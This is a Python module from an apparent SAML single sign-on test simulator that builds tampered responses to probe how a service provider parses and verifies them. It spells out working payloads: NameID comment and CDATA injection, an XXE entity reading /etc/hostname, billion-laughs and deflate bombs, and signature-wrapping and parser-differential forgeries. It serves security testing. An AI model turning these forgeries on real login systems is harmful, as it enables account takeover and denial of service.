"""Falsified documents: what a parser may take differently, may choke on, or has to bear."""

from __future__ import annotations

import re
import zlib
from base64 import b64decode, b64encode
from collections.abc import Callable, Mapping
from functools import cache
from types import MappingProxyType
from typing import Any

from lxml import etree

from idpsim.sso.tamper.documents import (
    DS,
    SAML,
    SAMLP,
    Element,
    assertion,
    content,
    digest,
    forged,
    name_the_victim,
    parsed,
    signature,
    signatures,
    signed_again,
    signed_part,
)
from idpsim.sso.tamper.hooks import SamlTamper, Scene

SUFFIX = ".attacker.test"
PREFIX = "attacker-"
_DECLARATION = re.compile(rb"^<\?xml[^>]*\?>\s*")
_MARK = "idpsim-entity"
_HIDDEN = "urn:idpsim:hidden"
_XS = {"xs": "http://www.w3.org/2001/XMLSchema", "xsi": "http://www.w3.org/2001/XMLSchema-instance"}


def _names(response: Element) -> list[Element]:
    """The elements that name the person: the NameID, and attribute values that look like an address."""
    inner = assertion(response)
    values = [each for each in inner.iter(f"{{{SAML}}}AttributeValue") if "@" in (each.text or "")]
    return [*inner.iterfind(f"{{{SAML}}}Subject/{{{SAML}}}NameID"), *values]


def _renamed(change: Callable[[str], str]) -> Callable[[Element, Scene], None]:
    """Whatever names the person is made of what names the victim; the rest stays the person's."""

    def renamed(response: Element, scene: Scene) -> None:
        theirs = forged(scene)
        names = {_place(each): each.text or "" for each in _names(theirs)}
        for mine in _names(response):
            if (name := names.get(_place(mine))) is not None:
                mine.text = change(name)

    return renamed


def _place(element: Element) -> str:
    parent = element.getparent()
    return "" if parent is None else parent.get("Name", "")


def _comment(response: Element, _scene: Scene) -> None:
    for each in _names(response):
        text = each.text or ""
        if text.endswith(SUFFIX):
            comment = etree.Comment(" ")
            comment.tail, each.text = SUFFIX, text.removesuffix(SUFFIX)
            each.append(comment)


def _instruction(response: Element, _scene: Scene) -> None:
    for each in _names(response):
        text = each.text or ""
        if text.startswith(PREFIX):
            instruction = etree.ProcessingInstruction("x", PREFIX)
            instruction.tail, each.text = text.removeprefix(PREFIX), None
            each.append(instruction)


def _cdata(response: Element, _scene: Scene) -> Element:
    section = f"<![CDATA[{SUFFIX}]]><".encode()
    return parsed(etree.tostring(response).replace(f"{SUFFIX}<".encode(), section))


def _message(response: Element, _scene: Scene) -> None:
    """Leave the signature to the assertion, and a mark for the entity in StatusMessage."""
    signed_part(response)
    code = response.find(f"{{{SAMLP}}}Status/{{{SAMLP}}}StatusCode")
    if code is not None:
        message = etree.Element(f"{{{SAMLP}}}StatusMessage", nsmap={response.prefix: SAMLP})
        message.text = _MARK
        code.addnext(message)


def _with_doctype(document: bytes, subset: str) -> bytes:
    declaration = _DECLARATION.match(document)
    at = declaration.end() if declaration else 0
    name = re.match(rb"<([\w:.-]+)", document[at:])
    root = name.group(1).decode() if name else "Response"
    return document[:at] + f"<!DOCTYPE {root} [{subset}]>".encode() + document[at:]


def _entity(subset: str) -> SamlTamper:
    def declared(document: bytes, _scene: Scene) -> bytes:
        return _with_doctype(document, subset).replace(_MARK.encode(), b"&e;")

    return SamlTamper(signed=_message, document=declared)


def _laughs() -> str:
    """Eight levels of ten: 300 MB."""
    levels = "".join(f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">' for level in range(1, 8))
    return f'<!ENTITY e0 "{"lol" * 10}">{levels}<!ENTITY e "&e7;">'


@cache
def _bomb() -> str:
    packer, megabyte = zlib.compressobj(9, wbits=-15), b" " * 1_000_000
    begin = packer.compress(f'<samlp:Response xmlns:samlp="{SAMLP}">'.encode())
    blanks = b"".join(packer.compress(megabyte) for _ in range(64))
    return b64encode(begin + blanks + packer.compress(b"</samlp:Response>") + packer.flush()).decode()


def _utf16(document: bytes, _scene: Scene) -> bytes:
    text = _DECLARATION.sub(b"", document).decode()
    return f'<?xml version="1.0" encoding="UTF-16"?>{text}'.encode("utf-16")


def _encoded(join: Callable[[str], str]) -> SamlTamper:
    def changed(fields: dict[str, str], _scene: Scene) -> dict[str, str]:
        plain = b64encode(b64decode(fields["SAMLResponse"])).decode()
        return {**fields, "SAMLResponse": join(plain)}

    return SamlTamper(fields=changed)


def _lines(text: str, width: int, end: str) -> str:
    return end.join(text[at : at + width] for at in range(0, len(text), width))


def _unknown_prefixes(response: Element, _scene: Scene) -> None:
    for child in tuple(response):
        response.replace(child, _with_prefixes(child))


def _attributes(element: Element) -> dict[str, str]:
    return {str(name): str(value) for name, value in element.attrib.items()}


def _with_prefixes(element: Element) -> Element:
    names = {SAML: "q7", SAMLP: "zz", **{uri: prefix for prefix, uri in _XS.items()}}
    copy = etree.Element(element.tag, _attributes(element), nsmap={prefix: uri for uri, prefix in names.items()})
    copy.text, copy.tail = element.text, element.tail
    copy.extend([_with_prefixes(child) for child in element])
    return copy


def _two_signatures(response: Element, scene: Scene) -> None:
    """Beside the true signature stands one that fits the victim, in a namespace that `document` makes ambiguous."""
    part = signed_part(response)
    name_the_victim(response, scene)
    kept = signature(part)
    if kept is None:
        return
    second = _in_namespace(kept, _HIDDEN)
    for each in second.iter(f"{{{_HIDDEN}}}DigestValue"):
        each.text = digest(kept, content(kept))
    kept.addnext(second)


def _in_namespace(element: Element, namespace: str) -> Element:
    """A copy in which what was in the namespace of signatures is in this one, by default."""
    here = etree.QName(element)
    moved = here.namespace == DS
    scope: Any = {None: namespace} if moved else element.nsmap
    name = f"{{{namespace}}}{here.localname}" if moved else element.tag
    copy = etree.Element(name, _attributes(element), nsmap=scope)
    copy.text, copy.tail = element.text, element.tail
    copy.extend([_in_namespace(child, namespace) for child in element])
    return copy


def _written_oddly(document: bytes, _scene: Scene) -> bytes:
    return document.replace(_HIDDEN.encode(), DS.replace("h", "&#x68;", 1).encode())


def _defaulted(document: bytes, _scene: Scene) -> bytes:
    plain = document.replace(f' xmlns="{_HIDDEN}"'.encode(), b"")
    return _with_doctype(plain, f'<!ATTLIST Signature xmlns CDATA #FIXED "{DS}">')


def _keep_signed(response: Element, _scene: Scene) -> None:
    signed_part(response)


def _notation(document: bytes, scene: Scene) -> bytes:
    """For one who knows the rules, the victim is text in the true Response; else, the true one is a comment."""
    bare = _DECLARATION.sub(b"", document)
    victim = etree.tostring(forged(scene))
    opened, closing = victim[: victim.rindex(b"</")], bare[bare.rindex(b"</") :]
    name = closing[2:-1]
    inner = bare[: bare.rindex(b"</")] + b"<![CDATA[-->" + opened + b"<!--]]>-->" + closing
    return b"<!DOCTYPE " + name + b" [<!NOTATION x SYSTEM 'x\">]><!--'> ]>" + inner


def _void(response: Element, scene: Scene) -> None:
    name_the_victim(response, scene)
    for each in signatures(response):
        for held in each.iter(f"{{{DS}}}DigestValue"):
            held.text = digest(each, b"")
        signed_again(each, scene, b"")


def _relative_namespace(document: bytes, _scene: Scene) -> bytes:
    return re.sub(rb"(<(?!\?)[\w:.-]+)", rb'\1 xmlns:void="1"', document, count=1)


TAMPERS: Mapping[str, SamlTamper] = MappingProxyType(
    {
        "comment_in_nameid": SamlTamper(tree=_renamed(lambda name: name + SUFFIX), signed=_comment),
        "cdata_in_nameid": SamlTamper(tree=_renamed(lambda name: name + SUFFIX), signed=_cdata),
        "pi_in_nameid": SamlTamper(tree=_renamed(lambda name: PREFIX + name), signed=_instruction),
        "deflated_post_bomb": SamlTamper(fields=lambda fields, _: {**fields, "SAMLResponse": _bomb()}),
        "dtd_xxe": _entity('<!ENTITY e SYSTEM "file:///etc/hostname">'),
        "billion_laughs": _entity(_laughs()),
        "bom": SamlTamper(document=lambda document, _: b"\xef\xbb\xbf" + document),
        "utf16": SamlTamper(document=_utf16),
        "whitespace_base64": _encoded(lambda text: _lines(text, 60, " \t")),
        "crlf_base64": _encoded(lambda text: _lines(text, 76, "\r\n") + "\r\n"),
        "unknown_prefixes": SamlTamper(tree=_unknown_prefixes),
        "parser_differential_doctype": SamlTamper(signed=_keep_signed, document=_notation),
        "parser_differential_namespace": SamlTamper(signed=_two_signatures, document=_written_oddly),
        "namespace_confusion": SamlTamper(signed=_two_signatures, document=_defaulted),
        "void_canonicalization": SamlTamper(signed=_void, document=_relative_namespace),
    }
)
